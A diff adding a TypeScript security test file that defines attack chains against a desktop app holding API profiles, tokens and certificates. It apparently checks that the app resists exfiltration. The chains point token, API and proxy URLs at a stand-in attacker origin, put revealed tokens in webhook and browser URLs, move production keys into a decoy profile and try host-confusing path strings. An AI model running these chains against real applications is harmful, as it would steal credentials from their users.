@@ -1,0 +1,191 @@
+import type { CallName } from '../../../shared/contract.ts'
+import type { Profile, ProfileSettings } from '../../../shared/model/profile.ts'
+import { attackersPassphrase, type WalledApp } from './walled-app.ts'
+
+/** Calls of one window, one after the other, that try to get a secret out. */
+export interface AttackChain {
+  readonly run: (app: WalledApp) => Promise<unknown>
+  /** What main's question says if the person lets it happen; undefined: it gets nothing out even then. */
+  readonly asks?: (app: WalledApp) => string
+}
+
+/** Calls of one window each. */
+let windows = 1_000_000
+
+type Step = (name: CallName, input?: unknown) => Promise<unknown>
+
+/** Makes the calls as one window; each answers its value, or undefined if it was refused. */
+function chain(run: (step: Step, app: WalledApp) => Promise<unknown>, asks?: AttackChain['asks']): AttackChain {
+  return {
+    run: (app) => {
+      const windowId = (windows += 1)
+      const step: Step = async (name, input) => {
+        const envelope = await app.call(name, input, windowId)
+        return envelope.ok ? envelope.value : undefined
+      }
+      return run(step, app)
+    },
+    ...(asks === undefined ? {} : { asks }),
+  }
+}
+
+/** Changes settings of a profile from what they are now. */
+async function change(step: Step, profileId: string, changes: Partial<ProfileSettings>): Promise<void> {
+  const profiles = (await step('profiles.list')) as Profile[]
+  const current = profiles.find(({ id }) => id === profileId)
+  if (current === undefined) return
+  const { id, practice, revision, createdAt, updatedAt, ...settings } = current
+  await step('profiles.update', { profileId, revision, settings: { ...settings, ...changes } })
+}
+
+const token = (profileId: string): [CallName, unknown] => ['tokens.get', { profileId, renew: true }]
+
+export const attackChains: Readonly<Record<string, AttackChain>> = {
+  'token URL': chain(
+    async (step, { production: { id }, attacker }) => {
+      await change(step, id, { tokenUrl: `${attacker.origin}/token` })
+      await step(...token(id))
+    },
+    ({ attacker }) => attacker.host,
+  ),
+  'API address and connection test': chain(
+    async (step, { production: { id }, attacker }) => {
+      await change(step, id, { apiBaseUrl: attacker.origin })
+      await step('connection.test', { profileId: id })
+      await step('connection.look', { profileId: id, path: 'x' })
+    },
+    ({ attacker }) => attacker.host,
+  ),
+  'reporting address and a list': chain(
+    async (step, { production: { id }, attacker }) => {
+      await change(step, id, { reportsBaseUrl: attacker.origin })
+      const run = (await step('lists.open', { profileId: id, list: 'reports', restart: true })) as { runId: string }
+      await step('lists.load', { runId: run.runId, pages: 1 })
+    },
+    ({ attacker }) => attacker.host,
+  ),
+  'proxy and authority': chain(
+    async (step, { distant: { id }, attacker }) => {
+      await change(step, id, { proxy: attacker.origin })
+      await step('trust.look', { profileId: id })
+    },
+    ({ attacker }) => attacker.host,
+  ),
+  'out of Production, then another token URL': chain(
+    async (step, { production: { id }, attacker }) => {
+      await change(step, id, { environment: 'client-testing' })
+      await change(step, id, { tokenUrl: `${attacker.origin}/token` })
+      await step(...token(id))
+    },
+    () => 'Environment: Production → Client Testing',
+  ),
+  'a renamed decoy': chain(
+    async (step, { production, lure, attacker }) => {
+      await change(step, production.id, { name: 'Old' })
+      await change(step, lure.id, { name: production.name, environment: 'production' })
+      await change(step, production.id, { tokenUrl: `${attacker.origin}/token` })
+      await step(...token(production.id))
+      await step(...token(lure.id))
+    },
+    ({ attacker }) => attacker.host,
+  ),
+  'a shown token in a webhook': chain(
+    async (step, { production: { id }, attacker }) => {
+      const shown = (await step('tokens.reveal', { profileId: id })) as { accessToken: string } | undefined
+      const { warnings } = (await step('app.settings')) as { warnings: Record<string, unknown> }
+      const webhookUrl = `${attacker.origin}/${shown?.accessToken ?? ''}`
+      await step('app.changeSettings', { warnings: { ...warnings, webhook: true, webhookUrl } })
+      await step('expiry.testWebhook')
+    },
+    () => 'Show an access token of the Production profile “Live”?',
+  ),
+  'a shown token in another profile and in the browser': chain(
+    async (step, { production: { id }, lure, attacker }) => {
+      const shown = (await step('tokens.reveal', { profileId: id })) as { accessToken: string } | undefined
+      const text = shown?.accessToken ?? ''
+      await change(step, lure.id, { extraTokenParameters: { stolen: text === '' ? 'nothing' : text } })
+      await step(...token(lure.id))
+      await step('app.openExternal', { url: `${attacker.origin}/${text}` })
+    },
+    () => 'Show an access token of the Production profile “Live”?',
+  ),
+  'a copied token': chain(async (step, { production: { id } }) => step('tokens.copy', { profileId: id })),
+  'a duplicate': chain(async (step, { production: { id }, attacker }) => {
+    const copy = (await step('profiles.duplicate', { profileId: id, name: 'Copy' })) as { id: string }
+    await change(step, copy.id, { tokenUrl: `${attacker.origin}/token` })
+    await step(...token(copy.id))
+  }),
+  'a certificate of the production key for the attacker’s profile': chain(
+    async (step, { production: { id }, lure }) => {
+      const [active] = (await step('credentials.list', { profileId: id })) as { certificate: { pem: string } }[]
+      const base64 = Buffer.from(active?.certificate.pem ?? '').toString('base64')
+      await step('credentials.importContents', { profileId: lure.id, contents: [{ name: 'c', base64 }] })
+      const own = (await step('credentials.list', { profileId: lure.id })) as { id: string }[]
+      for (const { id: credentialId } of own) await step('credentials.activate', { profileId: lure.id, credentialId })
+      await step(...token(lure.id))
+    },
+  ),
+  'the production credential under the attacker’s profile': chain(async (step, { production: { id }, lure }) => {
+    const [active] = (await step('credentials.list', { profileId: id })) as { id: string }[]
+    for (const name of ['credentials.activate', 'credentials.retire', 'credentials.saveRequest'] as const)
+      await step(name, { profileId: lure.id, credentialId: active?.id })
+    await step(...token(lure.id))
+    await step('doctor.diagnose', { profileId: lure.id })
+  }),
+  'a key that no profile has': chain(
+    async (step, { lure, leftKey: { keyId, certificate } }) => {
+      await step('recovery.list')
+      await step('recovery.attach', { keyId, profileId: lure.id })
+      const base64 = Buffer.from(certificate).toString('base64')
+      await step('credentials.importContents', { profileId: lure.id, contents: [{ name: 'c', base64 }] })
+      await step('credentials.activate', { profileId: lure.id, credentialId: keyId })
+      await step(...token(lure.id))
+    },
+    () => 'Lure',
+  ),
+  'an imported profile': chain(async (step) => {
+    const file = (await step('profiles.openFile')) as { fileId: string }
+    const imported = (await step('profiles.importFile', { fileId: file.fileId, withNetwork: true })) as
+      { id: string }[] | undefined
+    for (const { id } of imported ?? []) await step(...token(id))
+  }),
+  'a backup in the place of a Production profile': chain(
+    async (step, { production: { id } }) => {
+      await restore(step, id, { kind: 'replace' })
+      await step(...token(id))
+    },
+    ({ attacker }) => attacker.host,
+  ),
+  'a backup beside a Production profile': chain(async (step, { production: { id } }) => {
+    await restore(step, id, { kind: 'add', name: 'Beside' })
+    for (const profile of (await step('profiles.list')) as { id: string; name: string }[])
+      if (profile.name === 'Beside') await step(...token(profile.id))
+  }),
+  'a backup that takes the keys of a deleted profile': chain(async (step, { production: { id } }) => {
+    await step('profiles.remove', { profileId: id, destroySecrets: false })
+    await restore(step, id, { kind: 'add', name: 'Heir' })
+    for (const profile of (await step('profiles.list')) as { id: string; name: string }[])
+      if (profile.name === 'Heir') await step(...token(profile.id))
+  }),
+  'paths that mean another host': chain(async (step, { production: { id }, attacker: { host, origin } }) => {
+    const paths = ['//', '\\\\', '/\\', '\\/', 'http:', 'http:/', '///', '@', '..//', '/%2f/', '\t//', '?//', '#//']
+    for (const before of paths) await step('connection.look', { profileId: id, path: `${before}${host}/x` })
+    for (const path of [origin, `http://x@${host}`, `${origin}\\@127.0.0.1`])
+      await step('connection.look', { profileId: id, path })
+    await change(step, id, { helloPath: `//${host}/x` })
+    await step('connection.test', { profileId: id })
+    await step('trust.look', { profileId: id, address: `${origin}/token` })
+  }),
+  'a replacement': chain(async (step, { production: { id }, attacker }) => {
+    await step('replacements.start', { profileId: id, keySize: 2048 })
+    await change(step, id, { audience: attacker.origin })
+    for (const name of ['replacements.tryOut', 'replacements.switchOver', 'replacements.goBack'] as const)
+      await step(name, { profileId: id })
+  }),
+}
+
+async function restore(step: Step, profileId: string, choice: unknown): Promise<void> {
+  const file = (await step('backup.openFile')) as { backupId: string }
+  const opened = { backupId: file.backupId, passphrase: attackersPassphrase }
+  await step('backup.restore', { ...opened, choices: [{ profileId, choice }] })
+}
